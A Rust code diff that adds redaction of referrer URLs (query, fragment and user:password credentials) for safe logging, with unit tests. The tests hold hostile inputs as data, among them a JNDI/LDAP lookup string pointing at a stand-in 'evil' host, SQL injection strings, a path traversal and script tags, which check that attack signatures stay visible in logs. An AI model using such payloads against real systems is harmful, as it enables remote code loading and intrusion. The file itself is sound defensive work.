@@ -1,4 +1,4 @@
-//! A raw query in; the query as it may be logged, and what is odd about it, out.
+//! A raw query or referrer in; the same as it may be logged, and what is odd about it, out.
 //!
 //! Attack signatures live in values, so values are logged. A token is not an attack and would be a
 //! leak; but a parameter's name must not be a place to hide in.
@@ -9,7 +9,7 @@ use percent_encoding::percent_decode_str;
 
 use super::text;
 
-/// A query fit for the log.
+/// A query or a referrer fit for the log.
 #[derive(Debug, Default, PartialEq, Eq)]
 pub(super) struct Redacted {
     pub(super) text: String,
@@ -50,6 +50,34 @@ pub(super) fn redact(raw: &str) -> Redacted {
         redacted.text.push_str(&text::sanitise(segment));
     }
     redacted
+}
+
+/// The same for what a referrer holds of pairs, behind `?` and behind `#`; a user is redacted always.
+pub(super) fn redact_referrer(raw: &str) -> Redacted {
+    let (page, fragment) = raw.split_once('#').map_or((raw, None), |(p, f)| (p, Some(f)));
+    let (page, query) = page.split_once('?').map_or((page, None), |(p, q)| (p, Some(q)));
+    let mut redacted = redact_user(page);
+    for (mark, pairs) in [('?', query), ('#', fragment)] {
+        let Some(pairs) = pairs else { continue };
+        let pairs = redact(pairs);
+        redacted.text.push(mark);
+        redacted.text.push_str(&pairs.text);
+        redacted.odd_secret |= pairs.odd_secret;
+    }
+    redacted
+}
+
+/// `scheme://user:password@host/path` (RFC 3986 §3.2.1)
+fn redact_user(page: &str) -> Redacted {
+    let as_it_is = || Redacted { text: text::sanitise(page), ..Redacted::default() };
+    let Some((scheme, rest)) = page.split_once("//") else { return as_it_is() };
+    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
+    let Some((user, host)) = authority.rsplit_once('@') else { return as_it_is() };
+    Redacted {
+        text: text::sanitise(&format!("{scheme}//[redacted]@{host}{path}")),
+        odd_secret: !user.split(':').all(|part| is_token_shaped(&decode(part))),
+        ..Redacted::default()
+    }
 }
 
 enum Secrecy {
@@ -133,6 +161,53 @@ mod tests {
         check("a=1&a=2", "a=1&a=2", true, false);
         check("a=1&%61=2", "a=1&%61=2", true, false);
         check("a=1&b=2&&", "a=1&b=2&&", false, false);
+    }
+
+    #[track_caller]
+    fn check_referrer(raw: &str, text: &str, odd_secret: bool) {
+        let redacted = redact_referrer(raw);
+        assert_eq!((redacted.text.as_str(), redacted.odd_secret), (text, odd_secret), "{raw}");
+    }
+
+    #[test]
+    fn secrets_of_a_referrer_are_redacted_wherever_they_stand() {
+        for (raw, text) in [
+            ("", ""),
+            ("about:blank", "about:blank"),
+            ("http://x/a?b=c&d#e", "http://x/a?b=c&d#e"),
+            ("http://x/?token=SeCrEt", "http://x/?token=[redacted]"),
+            ("/?token=SeCrEt", "/?token=[redacted]"),
+            ("?token=SeCrEt", "?token=[redacted]"),
+            ("http://x/?a=1&password=b/c#d", "http://x/?a=1&password=[redacted]#d"),
+            ("http://x/#access_token=SeCrEt&a=1", "http://x/#access_token=[redacted]&a=1"),
+            ("http://x/#/in?code=SeCrEt", "http://x/#/in?code=[redacted]"),
+            ("http://x/?a#b?c#token=SeCrEt", "http://x/?a#b?c#token=[redacted]"),
+            ("https://u:SeCrEt@x/", "https://[redacted]@x/"),
+            ("https://SeCrEt@x:80?a", "https://[redacted]@x:80?a"),
+            ("//u:SeCrEt@x/a", "//[redacted]@x/a"),
+            ("https://x/@a", "https://x/@a"),
+            ("https://x?a=b@c", "https://x?a=b@c"),
+        ] {
+            check_referrer(raw, text, false);
+        }
+    }
+
+    #[test]
+    fn attacks_in_a_referrer_stay_in_or_are_told() {
+        for (raw, text, odd_secret) in [
+            ("http://x/?q=<script>#<b>", "http://x/?q=<script>#<b>", false),
+            ("${jndi:ldap://evil/a}", "${jndi:ldap://evil/a}", false),
+            ("' or 1=1--", "' or 1=1--", false),
+            ("http://x/?code=../../etc", "http://x/?code=../../etc", false),
+            ("http://x/?pass=' or 1=1", "http://x/?pass=[redacted]", true),
+            ("http://x/#pass=%3Cb%3E", "http://x/#pass=[redacted]", true),
+            ("http://u:%27--@x/", "http://[redacted]@x/", true),
+            ("http://<b>@x/", "http://[redacted]@x/", true),
+            ("https://u:Se@CrEt@x#a", "https://[redacted]@x#a", true),
+            ("http://x/?password=b?c#d", "http://x/?password=[redacted]#d", true),
+        ] {
+            check_referrer(raw, text, odd_secret);
+        }
     }
 
     #[test]
